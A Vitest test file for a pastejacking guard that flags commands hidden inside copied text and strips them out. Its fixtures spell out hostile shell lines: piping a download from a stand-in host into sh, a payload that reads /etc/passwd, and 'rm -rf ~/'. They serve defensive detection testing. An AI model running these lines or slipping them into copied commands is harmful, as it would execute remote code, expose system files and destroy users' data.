import { describe, expect, it } from 'vitest';
import { slipsInCommand, withoutHidden } from '@/utils/guards/slipped-command';

/**
 * Pastejacking (utils/guards/slipped-command.ts): what of a selection's hidden text is a command
 * slipped in, and the selection's text without it. Which text is hidden needs a browser's layout:
 * tests/e2e/guard-scenarios.ts reads it there.
 */
describe('a command slipped into a selection', () => {
  it('is a hidden command that fetches and runs code, or one added to a line by a separator', () => {
    const shown = 'sudo apt-get update';
    const hidden = ['; curl -s https://get.example.top/x | sh;'];
    const copied = `sudo apt-get update${hidden[0]}`;
    expect(slipsInCommand(hidden, copied, shown)).toBe(true);
    // A demonstration's own payload: it reads a file rather than fetching one.
    expect(
      slipsInCommand(
        ['/dev/null; clear; whoami|tr -d x; head -n1 /etc/passwd\ngit clone '],
        'git clone /dev/null; clear; whoami|tr -d x; head -n1 /etc/passwd git clone git://x/y.git',
        'git clone git://x/y.git',
      ),
    ).toBe(true);
    // A line of its own, which a terminal runs as it is pasted.
    expect(slipsInCommand(['\nrm -rf ~/\n'], 'echo hello\nrm -rf ~/\n', 'echo hello')).toBe(true);
    // What makes the copy a command is hidden: `| sh` after a visible download.
    expect(
      slipsInCommand(
        [' | sh'],
        'curl -fsSL https://get.example.top/install | sh',
        'curl -fsSL https://get.example.top/install',
      ),
    ).toBe(true);
  });

  it('is not hidden text an honest page puts in a selection', () => {
    const shown = 'npm install --save-dev vitest';
    for (const hidden of [
      ['Copy'],
      ['Copy to clipboard', '(opens in a new tab)'],
      ['Skip to content\nOpen menu\nClose menu'],
      ['Settings\nSSH keys\nSudo mode\ncurl examples'],
      ['Home | Docs | Blog'],
      ['Terms & Conditions'],
      ['   '],
    ])
      expect(slipsInCommand(hidden, `${shown} ${hidden.join(' ')}`, shown), hidden[0]).toBe(false);
  });
});

describe('the selection without what is hidden', () => {
  it('takes each hidden part out where it stands, whatever spaces the browser put in', () => {
    expect(
      withoutHidden('sudo apt-get update; curl -s https://x.top/x | sh;\n  sudo apt-get upgrade', [
        '; curl -s   https://x.top/x | sh;',
      ]),
    ).toBe('sudo apt-get update\n  sudo apt-get upgrade');
    expect(withoutHidden('a b c b d', ['b', 'b'])).toBe('a  c  d');
  });

  it('leaves the text as it is when the browser left the hidden part out itself', () => {
    expect(withoutHidden('sudo apt-get update', ['; curl -s https://x.top/x | sh;'])).toBe(
      'sudo apt-get update',
    );
  });
});
